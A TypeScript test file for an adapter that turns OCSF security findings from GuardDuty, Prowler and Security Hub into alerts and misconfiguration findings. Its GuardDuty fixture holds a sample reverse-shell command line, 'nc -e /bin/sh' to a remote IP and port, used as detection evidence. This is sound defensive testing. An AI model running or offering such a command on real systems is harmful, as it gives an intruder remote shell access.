import { array, assert, constantFrom, dictionary, jsonValue, oneof, property } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { draftAlert } from '@/lib/detect/draft-alert'
import { conformsToAdapter } from '@/lib/ingest/conformance'
import { ocsfAdapter } from '.'

const context = { collectedAt: '2026-03-01T12:00:00.000Z', collector: 'ocsf' }
const eks = 'arn:aws:eks:eu-west-1:123456789012:cluster/prod'
const detection = {
  class_uid: 2004,
  class_name: 'Detection Finding',
  activity_id: 1,
  severity_id: 4,
  severity: 'High',
  status_id: 1,
  time: 1_772_272_800_000,
  metadata: { version: '1.4.0', product: { name: 'GuardDuty', vendor_name: 'AWS' } },
  finding_info: {
    uid: 'arn:aws:guardduty:eu-west-1:123456789012:detector/a/finding/b',
    title: 'A reverse shell was created in a container',
    desc: 'The process nc of the container web connected its input to a remote host.',
    types: ['Execution:Runtime/ReverseShell'],
    attacks: [
      {
        tactic: { name: 'Command and Control', uid: 'TA0011' },
        technique: { uid: 'T1071', name: 'x' },
        sub_technique: { uid: 'T1071.001' },
      },
    ],
    last_seen_time: 1_772_272_860_000,
  },
  resources: [
    { type: 'AwsEksCluster', uid: eks, name: 'prod' },
    { type: 'KubernetesPod', name: 'checkout-6d88f6dcdd-k6bc5', namespace: 'shop' },
  ],
  evidences: [
    {
      process: {
        name: 'nc',
        cmd_line: 'nc -e /bin/sh 203.0.113.9 4444',
        pid: 41,
        file: { path: '/usr/bin/nc' },
        parent_process: { name: 'node' },
      },
      container: {
        name: 'web',
        uid: '0f8d7e2a3296',
        image: { name: 'ghcr.io/acme/shop:1.4', uid: `sha256:${'ab'.repeat(32)}` },
      },
      actor: { user: { name: 'root', uid: '0' } },
      dst_endpoint: { ip: '203.0.113.9', port: 4444 },
    },
  ],
  remediation: { desc: 'Find out who opened it', references: ['https://docs.example/guardduty'] },
}
const verdict = {
  ...detection,
  status_code: 'FAIL',
  status_detail: 'AlwaysPullImages is not set in pod kube-apiserver-node-1',
  severity_id: 3,
  time: 1_772_272_800,
  metadata: { event_code: 'apiserver_always_pull_images_plugin', product: { name: 'Prowler' }, version: '1.4.0' },
  finding_info: { title: 'AlwaysPullImages is set', uid: 'u', types: [] },
  resources: [
    {
      type: 'KubernetesAPIServer',
      name: 'kube-apiserver-node-1',
      namespace: 'kube-system',
      uid: 'r1',
      data: { metadata: { containers: { a: {} }, node_name: 'node-1' } },
    },
  ],
  evidences: [],
}

conformsToAdapter(
  ocsfAdapter,
  [
    { name: 'a detection', documents: [detection] },
    {
      name: 'verdicts',
      documents: [
        [verdict, { ...verdict, status_code: 'PASS', metadata: { ...verdict.metadata, event_code: 'other' } }],
      ],
    },
    { name: 'both, as lines', text: `${JSON.stringify(detection)}\n${JSON.stringify(verdict)}\n` },
    {
      name: 'a security finding of 1.0',
      documents: [{ ...detection, class_uid: 2001, finding: detection.finding_info, finding_info: undefined }],
    },
  ],
  [
    { name: 'a vulnerability finding', documents: [{ ...detection, class_uid: 2002 }] },
    {
      name: 'a role of AWS',
      documents: [{ ...verdict, resources: [{ type: 'AwsIamRole', uid: 'arn:aws:iam::1:role/x', name: 'x' }] }],
    },
    { name: 'a detection without a time', documents: [{ ...detection, time: 'soon', finding_info: { title: 'x' } }] },
  ],
)

function read(document: unknown, cluster = '') {
  const result = ocsfAdapter.read([document], { ...context, cluster })
  if (!result.ok) throw new Error(JSON.stringify(result.problems))
  return result.observation
}
const alertOf = (document: unknown, cluster?: string) => {
  const observation = read(document, cluster)
  const [event] = observation.events
  return event ? draftAlert(observation.source, event) : null
}

describe('a detection', () => {
  it('raises an alert under our type where it means the same, with its own words', () => {
    expect(alertOf(detection)).toMatchObject({
      type: 'K8S.NODE_ReverseShell',
      source: 'guardduty',
      title: 'A reverse shell was created in a container',
      severity: 'high',
      entityKey: 'k8s/prod/apps/Deployment/shop/checkout|container/web',
      remediation: ['Find out who opened it', 'https://docs.example/guardduty'],
    })
    expect(alertOf(detection)?.tactics).toContain('CommandAndControl')
    expect(alertOf(detection)?.techniques).toEqual(expect.arrayContaining(['T1071', 'T1071.001']))
    const [event] = read(detection).events
    expect(event?.at).toBe('2026-02-28T10:01:00.000Z')
    expect(event?.entities.map(({ kind, name }) => `${kind} ${name}`)).toEqual([
      'cluster prod',
      'namespace shop',
      'workload checkout',
      'pod checkout-6d88f6dcdd-k6bc5',
      'container web',
      'image ghcr.io/acme/shop:1.4',
      'user root',
      'process nc',
      'ip 203.0.113.9',
    ])
  })

  it.each([
    [['TTPs/Execution/Execution:Kubernetes-ExecInKubeSystemPod'], 'GuardDuty_ExecutionKubernetesExecInKubeSystemPod'],
    [['TTPs/Privilege Escalation/PrivilegeEscalation:Kubernetes-PrivilegedContainer'], 'K8S_PrivilegedContainer'],
    [[], 'GuardDuty_AReverseShellWasCreatedInAContainer'],
    [['constructor'], 'GuardDuty_Constructor'],
  ])('of the types %j is a %s', (types, type) => {
    expect(alertOf({ ...detection, finding_info: { ...detection.finding_info, types } })?.type).toBe(type)
  })

  it.each([
    [1, 'informational'],
    [2, 'low'],
    [3, 'medium'],
    [5, 'critical'],
    [6, 'critical'],
    [0, 'high'],
    [99, 'high'],
  ])('of severity %i (High in words) is %s', (severity_id, severity) => {
    expect(alertOf({ ...detection, severity_id })?.severity).toBe(severity)
  })

  it('that its tool closed raises nothing by itself', () => {
    for (const more of [{ status_id: 3 }, { status_id: 4 }, { activity_id: 3 }])
      expect(alertOf({ ...detection, ...more })?.joinsOnly).toBe(true)
  })

  it('stands on the sender’s cluster where it names Kubernetes without one, on a machine otherwise', () => {
    const pod = { ...detection, resources: detection.resources.slice(1) }
    expect(read(pod, 'mine').events[0]?.asset).toBe('k8s/mine/apps/Deployment/shop/checkout')
    const host = {
      ...detection,
      resources: [{ type: 'AwsEc2Instance', uid: 'arn:aws:ec2:eu-west-1:1:instance/i-0abc' }],
      container: undefined,
    }
    expect(read(host, 'mine').events[0]?.asset).toBe('docker/i-0abc')
    expect(read({ ...host, resources: [], device: { hostname: 'vm-1' } }).events[0]?.asset).toBe('docker/vm-1')
  })

  it('keeps no secret of a command line', () => {
    const evidences = [{ process: { name: 'mysql', cmd_line: 'mysql -psecretpass shop' } }]
    expect(JSON.stringify(read({ ...detection, evidences }))).not.toContain('secretpass')
  })
})

describe('a verdict', () => {
  it('becomes a finding under its rule, a pass, or neither, and raises nothing', () => {
    const other = (status_code: string, event_code: string) => ({
      ...verdict,
      status_code,
      metadata: { ...verdict.metadata, event_code },
    })
    const observation = read(
      [verdict, other('PASS', 'a'), other('MANUAL', 'b'), { ...other('FAIL', 'c'), status: 'Suppressed' }],
      'prod',
    )
    expect(observation).toMatchObject({ source: 'prowler', events: [], evidenceAt: '2026-02-28T10:00:00.000Z' })
    expect(observation.findings).toMatchObject([
      {
        asset: 'k8s/prod/core/Pod/kube-system/kube-apiserver-node-1',
        kind: 'misconfiguration',
        rule: 'apiserver_always_pull_images_plugin',
        severity: 'medium',
      },
    ])
    expect(observation.passes).toMatchObject([{ rule: 'a', status: 'healthy' }])
    expect(observation.scopes).toEqual([
      {
        type: 'findings',
        asset: 'k8s/prod/core/Pod/kube-system/kube-apiserver-node-1',
        kinds: ['misconfiguration'],
        rules: ['a', 'apiserver_always_pull_images_plugin', 'b', 'c'],
        complete: true,
      },
    ])
  })

  it('of a compliance finding is read by its own words', () => {
    const compliance = {
      class_uid: 2003,
      status_code: undefined,
      compliance: { status_id: 3, status: 'Fail', control: 'EKS.1' },
      metadata: { product: { name: 'Security Hub' } },
    }
    const observation = read({ ...verdict, ...compliance, resources: [{ type: 'AwsEksCluster', uid: eks }] })
    expect(observation.findings).toMatchObject([{ asset: 'k8s/prod', rule: 'EKS.1' }])
    expect(observation.source).toBe('security-hub')
  })
})

it('what cannot be read costs itself alone', () => {
  const { events, rejected } = read([
    detection,
    { ...detection, class_uid: 2002 },
    { class_uid: 'x', metadata: {} },
    'text',
    7,
  ])
  expect(events).toHaveLength(1)
  expect(rejected.map(({ path }) => path)).toEqual(['$[1]', '$[2].class_uid', '$[3]', '$[4]'])
})

it('never throws, and what is read stands on an asset that is listed', () => {
  const event = dictionary(
    constantFrom(...Object.keys(verdict)),
    oneof(jsonValue(), constantFrom(...Object.values(verdict), ...Object.values(detection))),
  )
  assert(
    property(array(oneof(event, jsonValue()), { maxLength: 4 }), (documents) => {
      const result = ocsfAdapter.read(documents, context)
      if (!result.ok) return
      const keys = new Set(result.observation.assets.map(({ key }) => key))
      for (const { asset } of [...result.observation.events, ...result.observation.findings])
        expect(keys).toContain(asset)
    }),
  )
})
